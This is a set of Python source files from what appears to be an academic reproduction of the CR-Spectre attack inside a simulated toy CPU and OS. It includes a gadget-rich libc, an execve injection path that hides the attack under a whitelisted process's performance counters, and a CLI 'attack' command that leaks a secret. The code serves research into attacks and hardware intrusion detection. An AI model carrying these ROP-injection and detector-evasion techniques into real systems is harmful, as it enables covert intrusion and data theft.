    are deterministic, so the revoked batch is requeued and recomputed
    elsewhere; only a cell that exhausts its per-cell attempt budget
    degrades into a failed-cell outcome.
    """


class RetryExhaustedError(ReproError):
    """All retry attempts failed; ``__cause__`` holds the last error."""

    def __init__(self, message, attempts=None):
        if attempts is not None:
            message = f"{message} (gave up after {attempts} attempts)"
        super().__init__(message)
        self.attempts = attempts


class InjectedFault(TransientError):
    """Raised by the fault injector itself for kinds modelled as errors."""

    def __init__(self, message, kind=None):
        super().__init__(message)
        self.kind = kind
