"""Exception hierarchy for the CR-Spectre reproduction.

Every error raised by the simulator, the toolchain, the attack layer or the
HID layer derives from :class:`ReproError`, so callers can catch one base
class at API boundaries.
"""


class ReproError(Exception):
    """Base class for all errors raised by this package."""


class AssemblerError(ReproError):
    """Raised when assembly source cannot be parsed or encoded."""

    def __init__(self, message, line_number=None, line=None):
        location = "" if line_number is None else f" (line {line_number}: {line!r})"
        super().__init__(f"{message}{location}")
        self.line_number = line_number
        self.line = line


class EncodingError(ReproError):
    """Raised when an instruction cannot be encoded or decoded."""


class MemoryFault(ReproError):
    """Base class for simulated memory faults."""

    def __init__(self, message, address=None):
        if address is not None:
            message = f"{message} at address {address:#010x}"
        super().__init__(message)
        self.address = address


class SegmentationFault(MemoryFault):
    """Access to an unmapped address."""


class ProtectionFault(MemoryFault):
    """Access violating page permissions (e.g. executing a DEP page)."""


class AlignmentFault(MemoryFault):
    """Misaligned word access."""


class CpuFault(ReproError):
    """Raised for architectural faults during execution."""


class ShadowStackViolation(CpuFault):
    """Return address mismatch detected by the shadow-stack countermeasure."""


class PrivilegeFault(CpuFault):
    """Unprivileged use of a restricted instruction (e.g. clflush)."""


class StackCanaryViolation(CpuFault):
    """Stack canary corrupted; the process aborts before returning."""


class KernelError(ReproError):
    """Raised by the simulated OS layer (bad syscall, missing binary...)."""


class LoaderError(KernelError):
    """Raised when a program cannot be loaded or relocated."""


class AttackError(ReproError):
    """Raised by the attack toolchain (no gadget found, bad payload...)."""


class GadgetNotFoundError(AttackError):
    """A required ROP gadget does not exist in the scanned image."""


class HidError(ReproError):
    """Raised by the HID layer (bad dataset, untrained classifier...)."""
