"""A libc-style routine library, statically linked into every binary.

Two roles, mirroring the paper:

* ordinary runtime support (``strcpy``, ``memcpy``, ``strlen``, ``puts``,
  syscall wrappers) that workloads call; and
* an (unintentional, but realistic) *gadget supply*.  "A binary compiled
  using GCC has various other libraries linked with it, thus providing
  more gadgets than available only with the host" — our library plays the
  part of those linked libraries.  Functions that save and restore
  registers around their bodies leave ``pop <reg>; ...; ret`` suffixes in
  the text image, and the syscall wrappers end in ``syscall; ret``; the
  gadget scanner finds both, with no gadget planted outside ordinary
  function bodies.

All labels are prefixed with their function name, so user programs can
link against this source unambiguously.
"""

LIBC_SOURCE = r"""
; ======================================================================
; libc for the toy ISA.  Calling convention: args a0-a3, result rv,
; t0-t3 caller-saved, s0-s1/fp callee-saved.
; ======================================================================

.text

; ---- char* strcpy(char *dst /*a0*/, const char *src /*a1*/) ----------
strcpy:
    mov  t0, a0
strcpy_loop:
    lb   t1, 0(a1)
    sb   t1, 0(t0)
    addi a1, a1, 1
    addi t0, t0, 1
    bne  t1, zero, strcpy_loop
    mov  rv, a0
    ret

; ---- void* memcpy(void *dst /*a0*/, const void *src /*a1*/, n /*a2*/) -
memcpy:
    mov  t0, a0
    mov  t1, a1
    mov  t2, a2
memcpy_loop:
    beq  t2, zero, memcpy_done
    lb   t3, 0(t1)
    sb   t3, 0(t0)
    addi t0, t0, 1
    addi t1, t1, 1
    addi t2, t2, -1
    jmp  memcpy_loop
memcpy_done:
    mov  rv, a0
    ret

; ---- int strlen(const char *s /*a0*/) ---------------------------------
strlen:
    li   rv, 0
strlen_loop:
    lb   t0, 0(a0)
    beq  t0, zero, strlen_done
    addi rv, rv, 1
    addi a0, a0, 1
    jmp  strlen_loop
strlen_done:
    ret

; ---- void* memset(void *dst /*a0*/, int c /*a1*/, n /*a2*/) -----------
memset:
    mov  t0, a0
    mov  t1, a2
memset_loop:
    beq  t1, zero, memset_done
    sb   a1, 0(t0)
    addi t0, t0, 1
    addi t1, t1, -1
    jmp  memset_loop
memset_done:
    mov  rv, a0
    ret

; ---- int strcmp(const char *a /*a0*/, const char *b /*a1*/) -----------
strcmp:
strcmp_loop:
    lb   t0, 0(a0)
    lb   t1, 0(a1)
    bne  t0, t1, strcmp_diff
    beq  t0, zero, strcmp_equal
    addi a0, a0, 1
    addi a1, a1, 1
    jmp  strcmp_loop
strcmp_diff:
    sub  rv, t0, t1
    ret
strcmp_equal:
    li   rv, 0
    ret

; ---- syscall wrappers --------------------------------------------------
; void exit(int code /*a0->a1*/)
libc_exit:
    mov  a1, a0
    li   a0, 1          ; SYS_EXIT
    syscall
    halt                ; not reached

; int write(int fd /*a0*/, const void *buf /*a1*/, int n /*a2*/)
libc_write:
    mov  a3, a2
    mov  a2, a1
    mov  a1, a0
    li   a0, 2          ; SYS_WRITE
    syscall
    ret

; int execve(const char *path /*a0*/, const char *arg /*a1*/)
; The classic ROP destination: a syscall wrapper ending in ret.
libc_execve:
    mov  a2, a1
    mov  a1, a0
    li   a0, 3          ; SYS_EXECVE
    syscall
    ret                 ; reached only if execve failed

; int getpid(void)
libc_getpid:
    li   a0, 4          ; SYS_GETPID
    syscall
    ret

; int puts(const char *s /*a0*/)
puts:
    push s0
    mov  s0, a0
    call strlen
    mov  t2, rv
    mov  a1, s0
    mov  a2, t2
    li   a0, 1          ; fd = stdout
    mov  a3, a2
    mov  a2, a1
    mov  a1, a0
    li   a0, 2          ; SYS_WRITE
    syscall
    pop  s0
    ret

; ---- register-save/restore heavy helpers ------------------------------
; These mimic compiled functions with big prologues/epilogues; their
; epilogues are exactly the "pop reg; ret" gadget material ROP wants.

; int checked_add(int a /*a0*/, int b /*a1*/) - saturating add
checked_add:
    push s0
    push s1
    add  rv, a0, a1
    slt  s0, rv, a0
    beq  s0, zero, checked_add_ok
    li   rv, 0x7FFFFFFF
checked_add_ok:
    pop  s1
    pop  s0
    ret

; int clamp(int v /*a0*/, int lo /*a1*/, int hi /*a2*/)
clamp:
    push a2
    push a1
    mov  rv, a0
    slt  t0, rv, a1
    beq  t0, zero, clamp_check_hi
    mov  rv, a1
clamp_check_hi:
    slt  t0, a2, rv
    beq  t0, zero, clamp_done
    mov  rv, a2
clamp_done:
    pop  a1
    pop  a2
    ret

; void swap_words(int *p /*a0*/, int *q /*a1*/)
swap_words:
    push a1
    push a0
    lw   t0, 0(a0)
    lw   t1, 0(a1)
    sw   t1, 0(a0)
    sw   t0, 0(a1)
    pop  a0
    pop  a1
    ret

; int abs32(int v /*a0*/)
abs32:
    push a0
    mov  rv, a0
    slt  t0, rv, zero
    beq  t0, zero, abs32_done
    sub  rv, zero, rv
abs32_done:
    pop  a0
    ret

.data
libc_heap_scratch:
    .space 256
"""


def libc_symbols():
    """Names exported by the library (used to detect link collisions)."""
    names = []
    for line in LIBC_SOURCE.splitlines():
        line = line.split(";", 1)[0].strip()
        if line.endswith(":"):
            names.append(line[:-1])
    return names
