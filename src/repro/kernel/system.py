"""The `System` facade: filesystem of binaries, process management, execve.

One ``System`` is one machine under one configuration (cache geometry,
CPU knobs, countermeasures, ASLR on/off, the shared target segment with
the secret).  Experiments create a fresh ``System`` per trial so runs
are independent and seeds make them reproducible.
"""

import random

from repro.cache.cache import Cache
from repro.cache.hierarchy import CacheConfig, CacheHierarchy
from repro.cpu.cpu import CpuConfig
from repro.errors import KernelError
from repro.kernel.loader import load_image
from repro.kernel.process import Process
from repro.kernel.scheduler import Scheduler
from repro.kernel.syscalls import SyscallInterface
from repro.mem.layout import AddressSpaceLayout, randomized_layout
from repro.mem.memory import Memory
from repro.uarch import DEFAULT_UARCH, make_core


class System:
    """A single simulated machine."""

    def __init__(self, seed=0, cpu_config=None, cache_config=None,
                 aslr=False, aslr_entropy_bits=12, target_data=None,
                 quantum=2000, shared_l2=False, uarch=DEFAULT_UARCH,
                 uarch_params=None):
        self.seed = seed
        self.uarch = uarch
        self.uarch_params = uarch_params
        self.rng = random.Random(seed)
        self.cpu_config = cpu_config or CpuConfig()
        self.cache_config = cache_config or CacheConfig()
        self.aslr = aslr
        self.aslr_entropy_bits = aslr_entropy_bits
        self.target_data = target_data
        self.scheduler = Scheduler(quantum=quantum)
        self.filesystem = {}
        self.processes = []
        self._next_pid = 100
        self.shared_l2 = None
        if shared_l2:
            # One physical L2 for the whole machine: co-located processes
            # contend for it, which is where Table I's overhead comes from.
            cfg = self.cache_config
            self.shared_l2 = Cache("L2", cfg.l2_size, cfg.line_size,
                                   cfg.l2_ways, cfg.policy)

    # ---- filesystem ----------------------------------------------------
    def install_binary(self, path, program):
        """Register an assembled Program under a filesystem path."""
        self.filesystem[path] = program

    def lookup_binary(self, path):
        try:
            return self.filesystem[path]
        except KeyError:
            raise KernelError(f"no such binary: {path!r}")

    # ---- process lifecycle ----------------------------------------------
    def _make_layout(self):
        if self.aslr:
            return randomized_layout(self.rng, self.aslr_entropy_bits)
        return AddressSpaceLayout()

    def spawn(self, path, argv=None, name=None):
        """Create a process running the binary at *path*."""
        program = self.lookup_binary(path)
        memory = Memory()
        caches = CacheHierarchy(self.cache_config, shared_l2=self.shared_l2,
                                asid=self._next_pid)
        cpu = make_core(self.uarch, memory, caches=caches,
                        config=self.cpu_config, params=self.uarch_params)
        layout = self._make_layout()
        full_argv = [path] + list(argv or ())
        image, initial_regs = load_image(
            memory, program, layout=layout, argv=full_argv,
            target_data=self.target_data,
        )
        for register, value in initial_regs.items():
            cpu.state.write_reg(register, value)
        cpu.state.pc = image.entry_address

        pid = self._next_pid
        self._next_pid += 1
        process = Process(pid, name or program.name, memory, cpu)
        process.image = image
        cpu.syscall_handler = SyscallInterface(self, process)
        self.processes.append(process)
        return process

    def do_execve(self, process, path, argument=None):
        """Replace *process*'s image in place (same PID, same PMU).

        This is the paper's injection endpoint: the ROP chain lands in the
        libc ``execve`` wrapper, and the malicious binary then executes
        under the identity — and the performance-counter attribution — of
        the exploited host.
        """
        program = self.lookup_binary(path)
        cpu = process.cpu
        memory = process.memory
        if cpu._tr_kernel is not None:
            cpu._tr_kernel.event("kernel.execve", path=path, pid=process.pid)

        memory.unmap_all()
        layout = self._make_layout()
        argv = [path] + ([argument] if argument is not None else [])
        image, initial_regs = load_image(
            memory, program, layout=layout, argv=argv,
            target_data=self.target_data,
        )
        cpu.reset_for_exec()
        cpu.state.regs = [0] * len(cpu.state.regs)
        for register, value in initial_regs.items():
            cpu.state.write_reg(register, value)
        cpu.state.pc = image.entry_address
        process.image = image
        process.image_name = program.name

    # ---- running ---------------------------------------------------------
    def run(self, processes=None, max_quanta=None, on_quantum=None):
        """Round-robin schedule processes (default: all live ones)."""
        if processes is None:
            processes = [p for p in self.processes if p.alive]
        return self.scheduler.run(
            processes, max_quanta=max_quanta, on_quantum=on_quantum
        )

    def run_alone(self, process, max_instructions=50_000_000):
        """Run one process to completion without competition."""
        return process.run_to_completion(max_instructions=max_instructions)
