"""Process model: one address space + one CPU + lifecycle state."""

import enum

from repro.errors import BudgetExceededError, ReproError


class ProcessState(enum.Enum):
    READY = "ready"
    RUNNING = "running"
    EXITED = "exited"
    FAULTED = "faulted"


class Process:
    """A simulated process.

    The PMU belongs to the process's CPU, so after the ROP injection the
    attack's events are attributed to this (white-listed) process — the
    cloaking property CR-Spectre relies on.
    """

    def __init__(self, pid, name, memory, cpu):
        self.pid = pid
        self.name = name
        self.memory = memory
        self.cpu = cpu
        self.state = ProcessState.READY
        self.exit_code = None
        self.fault = None
        self.stdout = bytearray()
        #: set by execve so callers can observe the image swap
        self.image_name = name

    @property
    def pmu(self):
        return self.cpu.pmu

    @property
    def alive(self):
        return self.state in (ProcessState.READY, ProcessState.RUNNING)

    def step_quantum(self, instructions):
        """Run up to *instructions*; returns the number actually retired.

        Faults (segfault, DEP violation, shadow-stack trap, canary abort)
        terminate the process and are recorded rather than propagated, the
        way a kernel would deliver SIGSEGV/SIGABRT.  A blown watchdog
        budget is *not* a process fault — it is the harness aborting a
        runaway run — so :class:`BudgetExceededError` propagates.
        """
        if not self.alive:
            return 0
        self.state = ProcessState.RUNNING
        try:
            executed = self.cpu.run(max_instructions=instructions)
        except BudgetExceededError:
            self.state = ProcessState.READY
            raise
        except ReproError as exc:
            self.state = ProcessState.FAULTED
            self.fault = exc
            return 0
        if self.cpu.state.halted:
            self.state = ProcessState.EXITED
            self.exit_code = (
                self.cpu.state.exit_code
                if self.cpu.state.exit_code is not None
                else 0
            )
        else:
            self.state = ProcessState.READY
        return executed

    def run_to_completion(self, max_instructions=50_000_000, watchdog=None):
        """Run the process alone until it exits or faults.

        Without a *watchdog* an overrunning process is silently stopped
        at *max_instructions* (legacy behaviour).  With one, the budget
        is enforced by the CPU run loop and exhaustion raises
        :class:`BudgetExceededError` instead — the resilient path.
        """
        if watchdog is not None:
            previous = self.cpu.watchdog
            self.cpu.watchdog = watchdog
            try:
                return self.run_to_completion(max_instructions)
            finally:
                self.cpu.watchdog = previous
        remaining = max_instructions
        while self.alive and remaining > 0:
            executed = self.step_quantum(min(remaining, 1_000_000))
            if executed == 0 and not self.alive:
                break
            remaining -= max(executed, 1)
        return self.state

    def stdout_text(self):
        return self.stdout.decode("latin-1")

    def __repr__(self):
        return (
            f"Process(pid={self.pid}, name={self.name!r}, "
            f"state={self.state.value})"
        )
