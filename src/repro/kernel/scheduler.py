"""Round-robin scheduler with a per-quantum hook.

The profiler (:mod:`repro.hid.profiler`) registers an ``on_quantum``
callback: after every time slice it reads the sliced process's PMU delta
— that is the paper's "performance monitoring tool profiles the
applications to record HPCs in runtime".
"""


class Scheduler:
    """Instruction-quantum round robin over a set of processes.

    With ``context_switch_flush`` enabled, switching to a *different*
    process flushes its private L1s and TLBs — the cold-start cost a real
    context switch imposes.  Combined with a shared L2
    (``System(shared_l2=True)``) this is what produces the small but
    non-zero IPC overhead Table I measures for co-located CR-Spectre.
    """

    def __init__(self, quantum=2000, context_switch_flush=False):
        if quantum <= 0:
            raise ValueError("quantum must be positive")
        self.quantum = quantum
        self.context_switch_flush = context_switch_flush
        self._last_process = None

    def run(self, processes, max_quanta=None, on_quantum=None,
            watchdog=None):
        """Slice *processes* round-robin until all have terminated.

        ``on_quantum(process, executed)`` fires after every slice that
        retired at least one instruction.  Returns the number of quanta
        dispatched.  An optional *watchdog* is charged with every slice's
        retired instructions, so a set of processes that never terminates
        raises :class:`~repro.errors.BudgetExceededError` instead of
        spinning past ``max_quanta`` silently (or forever, when
        ``max_quanta`` is None).
        """
        quanta = 0
        pending = list(processes)
        while pending:
            if max_quanta is not None and quanta >= max_quanta:
                break
            still_alive = []
            for process in pending:
                if not process.alive:
                    continue
                if (self._last_process is not None
                        and self._last_process is not process):
                    if self.context_switch_flush:
                        caches = process.cpu.caches
                        caches.l1d.flush_all()
                        caches.l1i.flush_all()
                        process.cpu.dtlb.flush()
                        process.cpu.itlb.flush()
                    if process.cpu._tr_kernel is not None:
                        process.cpu._tr_kernel.event(
                            "kernel.context_switch", pid=process.pid
                        )
                self._last_process = process
                executed = process.step_quantum(self.quantum)
                if watchdog is not None:
                    watchdog.charge(executed)
                quanta += 1
                if executed and on_quantum is not None:
                    on_quantum(process, executed)
                if process.alive:
                    still_alive.append(process)
                if max_quanta is not None and quanta >= max_quanta:
                    still_alive.extend(
                        p for p in pending
                        if p.alive and p not in still_alive and p != process
                    )
                    break
            pending = still_alive
        return quanta
