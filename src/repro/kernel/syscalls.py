"""Syscall numbers and the kernel-side handler.

ABI: syscall number in ``a0``, arguments in ``a1``..``a3``, result in
``rv``.  ``execve`` is the one that matters to the paper — it is the
ROP chain's destination and swaps the process image *in place*, keeping
the PID (and therefore the profiler's attribution to the white-listed
host).
"""

from repro.errors import KernelError
from repro.isa.registers import A1, A2, A3, RV

SYS_EXIT = 1
SYS_WRITE = 2
SYS_EXECVE = 3
SYS_GETPID = 4
SYS_YIELD = 5

SYSCALL_NAMES = {
    SYS_EXIT: "exit",
    SYS_WRITE: "write",
    SYS_EXECVE: "execve",
    SYS_GETPID: "getpid",
    SYS_YIELD: "yield",
}


class SyscallInterface:
    """Dispatches syscalls for one process on behalf of the system."""

    def __init__(self, system, process):
        self._system = system
        self._process = process
        self.log = []  # (name, args) tuples, for tests and auditing

    def __call__(self, cpu):
        regs = cpu.state.regs
        number = regs[2]  # a0
        args = (regs[A1], regs[A2], regs[A3])
        name = SYSCALL_NAMES.get(number)
        self.log.append((name or f"unknown({number})", args))
        if cpu._tr_kernel is not None:
            cpu._tr_kernel.event("kernel.syscall",
                                 syscall=name or f"unknown({number})",
                                 pid=self._process.pid)
        if name is None:
            raise KernelError(f"unknown syscall number {number}")
        handler = getattr(self, "_sys_" + name)
        result = handler(cpu, *args)
        if result is not None:
            cpu.state.write_reg(RV, result)

    # ------------------------------------------------------------------
    def _sys_exit(self, cpu, code, _a2, _a3):
        cpu.state.exit_code = code
        cpu.state.halted = True
        return None

    def _sys_write(self, cpu, fd, buf, length):
        if length > 1 << 20:
            raise KernelError(f"write length too large: {length}")
        data = self._process.memory.read_bytes(buf, length)
        if fd in (1, 2):
            self._process.stdout += data
        return length

    def _sys_execve(self, cpu, path_ptr, arg_ptr, _a3):
        path = self._process.memory.read_cstring(path_ptr).decode("latin-1")
        argument = None
        if arg_ptr:
            argument = self._process.memory.read_cstring(arg_ptr)
        self._system.do_execve(self._process, path, argument)
        return 0

    def _sys_getpid(self, cpu, _a1, _a2, _a3):
        return self._process.pid

    def _sys_yield(self, cpu, _a1, _a2, _a3):
        # Cooperative yield: the scheduler slices by instruction quantum,
        # so this is accounting-only.
        return 0
