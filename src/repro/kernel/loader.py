"""Program loader: build + place + relocate binaries; set up the stack.

``build_binary`` statically links a workload's assembly with the libc
source (the gadget supply) and assembles once; ``load_image`` then places
the image into a process address space — with DEP permissions and,
optionally, ASLR — and prepares ``argc``/``argv`` exactly like a real
``execve`` would: argument *byte blobs* go on the stack top, a pointer
array below them, and the entry point receives ``a0 = argc``,
``a1 = argv``.

Argument blobs may contain NUL bytes (the ROP payload of Listing 1 is
binary data); ``argv`` strings are still NUL-terminated on the stack so
well-behaved string functions see normal C strings.
"""

from repro.errors import LoaderError
from repro.isa.assembler import assemble
from repro.isa.registers import A0, A1, A2, SP
from repro.kernel.libc import LIBC_SOURCE
from repro.mem.layout import AddressSpaceLayout
from repro.mem.memory import PERM_R, PERM_W, PERM_X

#: Where the shared "target application" segment (the secret's home) maps.
TARGET_BASE = 0x3000_0000

_STACK_ARG_AREA = 8192  # stack bytes reserved for argv blobs + pointers


def build_binary(name, source, link_libc=True):
    """Assemble *source* (optionally linked with libc) into a Program."""
    if link_libc:
        source = source + "\n" + LIBC_SOURCE
    return assemble(source, name=name)


class LoadedImage:
    """Bookkeeping the loader returns: where everything ended up."""

    def __init__(self, program, layout, entry_address):
        self.program = program
        self.layout = layout
        self.entry_address = entry_address

    def address_of(self, symbol_name):
        """Absolute address of a program symbol after relocation."""
        symbol = self.program.symbol(symbol_name)
        base = (
            self.layout.text_base
            if symbol.section == "text"
            else self.layout.data_base
        )
        return base + symbol.offset


def load_image(memory, program, layout=None, argv=(), target_data=None):
    """Map *program* into *memory* and build the initial stack.

    Returns ``(image, initial_regs)`` where ``initial_regs`` is a dict of
    register values the CPU must start with (``sp``, ``a0``, ``a1``).
    """
    layout = layout or AddressSpaceLayout()
    text, data = program.relocated(layout.text_base, layout.data_base)

    if text:
        memory.map_segment("text", layout.text_base, _round_page(len(text)),
                           PERM_R | PERM_X)
        memory.write_bytes(layout.text_base, text, force=True)
    if data or True:
        size = max(_round_page(len(data)), 4096)
        memory.map_segment("data", layout.data_base, size, PERM_R | PERM_W)
        if data:
            memory.write_bytes(layout.data_base, data)

    memory.map_segment("stack", layout.stack_base, layout.stack_size,
                       PERM_R | PERM_W)

    if target_data is not None:
        memory.map_segment("target", TARGET_BASE,
                           _round_page(len(target_data)), PERM_R)
        memory.write_bytes(TARGET_BASE, target_data, force=True)

    sp, argc, argv_ptr, arglen_ptr = _build_stack(memory, layout, argv)

    if not program.has_symbol(program.entry):
        raise LoaderError(
            f"binary {program.name!r} has no entry symbol {program.entry!r}"
        )
    entry_symbol = program.symbol(program.entry)
    if entry_symbol.section != "text":
        raise LoaderError(f"entry symbol {program.entry!r} is not code")
    entry_address = layout.text_base + entry_symbol.offset

    image = LoadedImage(program, layout, entry_address)
    initial_regs = {SP: sp, A0: argc, A1: argv_ptr, A2: arglen_ptr}
    return image, initial_regs


def _build_stack(memory, layout, argv):
    """Place argv blobs, pointer array and length array on the stack.

    Returns ``(sp, argc, argv_ptr, arglen_ptr)``.  The parallel length
    array models a ``read()``/``recv()``-style interface: argument blobs
    are binary-safe (the ROP payload contains NUL bytes) and the program
    receives their true lengths in ``a2``.
    """
    argv = [_as_bytes(arg) for arg in argv]
    total_blob = sum(len(blob) + 1 for blob in argv)
    if total_blob + 12 * (len(argv) + 2) > _STACK_ARG_AREA:
        raise LoaderError("argv too large for the stack argument area")

    cursor = layout.stack_top
    pointers = []
    for blob in argv:
        cursor -= len(blob) + 1
        memory.write_bytes(cursor, blob + b"\x00")
        pointers.append(cursor)

    # Pointer array (argc entries + NULL terminator), word aligned.
    cursor &= ~3
    cursor -= 4 * (len(argv) + 1)
    argv_ptr = cursor
    for index, pointer in enumerate(pointers):
        memory.store_word(argv_ptr + 4 * index, pointer)
    memory.store_word(argv_ptr + 4 * len(argv), 0)

    # Length array, parallel to argv.
    cursor -= 4 * len(argv)
    arglen_ptr = cursor
    for index, blob in enumerate(argv):
        memory.store_word(arglen_ptr + 4 * index, len(blob))

    # 64-byte align the initial stack pointer below the argument area.
    sp = (arglen_ptr - 64) & ~63
    return sp, len(argv), argv_ptr, arglen_ptr


def compute_initial_sp(layout, argv_lengths):
    """Predict the initial stack pointer for given argv blob lengths.

    Mirrors :func:`_build_stack` arithmetically.  Without ASLR the stack
    is fully deterministic, which is exactly the knowledge the paper's
    adversary exploits to place gadget addresses: the payload builder
    calls this to compute the overflowed buffer's absolute address.
    """
    cursor = layout.stack_top
    for length in argv_lengths:
        cursor -= length + 1
    cursor &= ~3
    cursor -= 4 * (len(argv_lengths) + 1)
    cursor -= 4 * len(argv_lengths)
    return (cursor - 64) & ~63


def _as_bytes(value):
    if isinstance(value, bytes):
        return value
    if isinstance(value, bytearray):
        return bytes(value)
    if isinstance(value, str):
        return value.encode("latin-1")
    raise LoaderError(f"argv entries must be str/bytes, got {type(value)!r}")


def _round_page(size, page=4096):
    return max(page, (size + page - 1) // page * page)
