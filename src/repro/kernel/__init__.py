"""Simulated OS: loader, processes, syscalls, scheduler, system facade."""

from repro.kernel.libc import LIBC_SOURCE, libc_symbols
from repro.kernel.loader import (
    LoadedImage,
    TARGET_BASE,
    build_binary,
    load_image,
)
from repro.kernel.process import Process, ProcessState
from repro.kernel.scheduler import Scheduler
from repro.kernel.syscalls import (
    SYS_EXECVE,
    SYS_EXIT,
    SYS_GETPID,
    SYS_WRITE,
    SYS_YIELD,
    SyscallInterface,
)
from repro.kernel.system import System

__all__ = [
    "LIBC_SOURCE",
    "libc_symbols",
    "LoadedImage",
    "TARGET_BASE",
    "build_binary",
    "load_image",
    "Process",
    "ProcessState",
    "Scheduler",
    "SYS_EXECVE",
    "SYS_EXIT",
    "SYS_GETPID",
    "SYS_WRITE",
    "SYS_YIELD",
    "SyscallInterface",
    "System",
]
