"""Command-line interface: ``python -m repro <command>``.

Commands
--------
``attack``      run one ROP-injected extraction and print the leak
``gadgets``     print the ROP gadget catalogue of a host binary
``disasm``      disassemble a workload or attack binary
``workloads``   list available workloads
``fig4/fig5/fig6/table1``  regenerate one paper artefact
``profile``     profile a workload and dump HPC windows to CSV
"""

import argparse
import sys


def _add_seed(parser):
    parser.add_argument("--seed", type=int, default=0,
                        help="deterministic seed (default 0)")


def build_parser():
    parser = argparse.ArgumentParser(
        prog="repro",
        description="CR-Spectre (DATE 2022) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("attack", help="run one injected extraction")
    p.add_argument("--variant", default="v1",
                   choices=("v1", "rsb", "sbo", "btb"))
    p.add_argument("--host", default="basicmath")
    p.add_argument("--secret", default="TheMagicWords!!!")
    p.add_argument("--delay", type=int, default=0,
                   help="Algorithm-2 dispersion trips (0 = plain)")
    p.add_argument("--style", type=int, default=0, choices=(0, 1, 2),
                   help="dispersion style: 0=cells 1=stream 2=chase")
    _add_seed(p)

    p = sub.add_parser("gadgets", help="print a host's gadget catalogue")
    p.add_argument("--host", default="basicmath")
    p.add_argument("--limit", type=int, default=25)

    p = sub.add_parser("disasm", help="disassemble a workload binary")
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--hosted", action="store_true",
                   help="include the Algorithm-1 vulnerable wrapper")

    sub.add_parser("workloads", help="list available workloads")

    for name, help_text in (
        ("fig4", "HID accuracy vs feature size"),
        ("fig5", "offline HID vs Spectre / CR-Spectre"),
        ("fig6", "online HID vs dynamic CR-Spectre"),
        ("table1", "IPC overhead of co-located CR-Spectre"),
    ):
        p = sub.add_parser(name, help=f"regenerate {help_text}")
        p.add_argument("--quick", action="store_true",
                       help="scaled-down run (~10x faster, same shapes)")
        _add_seed(p)

    p = sub.add_parser("profile", help="dump a workload's HPC windows")
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--samples", type=int, default=50)
    p.add_argument("--output", default="traces.csv")
    _add_seed(p)

    return parser


def cmd_attack(args):
    from repro.attack import PerturbParams, SpectreConfig, build_spectre, \
        plan_execve_injection
    from repro.kernel import System
    from repro.workloads import get_workload

    secret = args.secret.encode("latin-1")
    perturb = None
    if args.delay:
        perturb = PerturbParams(delay=args.delay, style=args.style,
                                calls_per_byte=2)
    system = System(seed=args.seed, target_data=secret)
    host = get_workload(args.host).build(iterations=1 << 20, hosted=True)
    attack = build_spectre(args.variant, SpectreConfig(
        secret_length=len(secret), repeats=1, perturb=perturb,
    ))
    system.install_binary("/bin/host", host)
    system.install_binary("/bin/cr", attack)
    plan = plan_execve_injection(host, "/bin/host", "/bin/cr")
    print(plan.describe())
    process = system.spawn("/bin/host", argv=plan.argv)
    process.run_to_completion(max_instructions=120_000_000)
    leaked = bytes(process.stdout)
    correct = sum(a == b for a, b in zip(leaked, secret))
    print(f"\nleaked: {leaked!r}  ({correct}/{len(secret)} bytes correct)")
    return 0 if correct == len(secret) else 1


def cmd_gadgets(args):
    from repro.attack import scan_program
    from repro.mem.layout import AddressSpaceLayout
    from repro.workloads import get_workload

    host = get_workload(args.host).build(iterations=100, hosted=True)
    scanner = scan_program(host, AddressSpaceLayout().text_base)
    gadgets = scanner.scan()
    print(f"{len(gadgets)} gadgets in {args.host!r} "
          f"(showing {min(args.limit, len(gadgets))}):")
    print(scanner.report(limit=args.limit))
    return 0


def cmd_disasm(args):
    from repro.isa.disassembler import format_listing
    from repro.mem.layout import TEXT_BASE
    from repro.workloads import get_workload

    program = get_workload(args.workload).build(
        iterations=100, hosted=args.hosted
    )
    text, _ = program.relocated(TEXT_BASE, 0x1000_0000)
    print(format_listing(text, base=TEXT_BASE))
    return 0


def cmd_workloads(_args):
    from repro.workloads import ALL_WORKLOADS

    for workload in ALL_WORKLOADS:
        print(f"{workload.name:18s} [{workload.category:7s}] "
              f"{workload.description}")
    return 0


def cmd_experiment(args):
    from repro.core.experiments import run_fig4, run_fig5, run_fig6, \
        run_table1

    runner = {
        "fig4": run_fig4,
        "fig5": run_fig5,
        "fig6": run_fig6,
        "table1": run_table1,
    }[args.command]
    kwargs = {"seed": args.seed}
    if getattr(args, "quick", False):
        kwargs.update({
            "fig4": dict(benign_per_host=60, attack_per_variant=20,
                         variants=("v1",)),
            "fig5": dict(attempts=3, training_benign=90,
                         training_attack=90, attempt_samples=24,
                         attempt_benign=8),
            "fig6": dict(attempts=3, training_benign=90,
                         training_attack=90, attempt_samples=24,
                         attempt_benign=8),
            "table1": dict(repetitions=1,
                           rows=(("Math", "basicmath", (60,)),
                                 ("SHA 1", "sha", (10,)))),
        }[args.command])
    result = runner(**kwargs)
    print(result.format())
    return 0


def cmd_profile(args):
    from repro.hid.io import save_samples
    from repro.hid.profiler import Profiler
    from repro.kernel import System
    from repro.workloads import get_workload

    system = System(seed=args.seed)
    system.install_binary(
        "/bin/w", get_workload(args.workload).build(iterations=1 << 28)
    )
    process = system.spawn("/bin/w")
    samples = Profiler(quantum=2000).profile(process, args.samples)
    count = save_samples(samples, args.output)
    print(f"wrote {count} windows x 56 events to {args.output}")
    return 0


def main(argv=None):
    args = build_parser().parse_args(argv)
    handlers = {
        "attack": cmd_attack,
        "gadgets": cmd_gadgets,
        "disasm": cmd_disasm,
        "workloads": cmd_workloads,
        "fig4": cmd_experiment,
        "fig5": cmd_experiment,
        "fig6": cmd_experiment,
        "table1": cmd_experiment,
        "profile": cmd_profile,
    }
    return handlers[args.command](args)


if __name__ == "__main__":
    sys.exit(main())
