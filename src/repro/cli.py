"""Command-line interface: ``python -m repro <command>``.

Commands
--------
``attack``      run one ROP-injected extraction and print the leak
``gadgets``     print the ROP gadget catalogue of a host binary
``disasm``      disassemble a workload or attack binary
``workloads``   list available workloads
``fig4/fig5/fig6/table1/hardening``  regenerate one paper artefact
``profile``     profile a workload and dump HPC windows to CSV
``smoke``       fast resilience smoke run (CI): faults + retries
``trace``       summarise a recorded trace (see ``--trace`` above)

Exit codes
----------
0  success
1  fatal error (unrecoverable :class:`~repro.errors.ReproError`)
2  usage error (bad arguments; argparse convention)
3  instruction budget / watchdog exceeded
4  partial results (some sweep cells degraded by faults)
"""

import argparse
import sys

EXIT_OK = 0
EXIT_FATAL = 1
EXIT_USAGE = 2
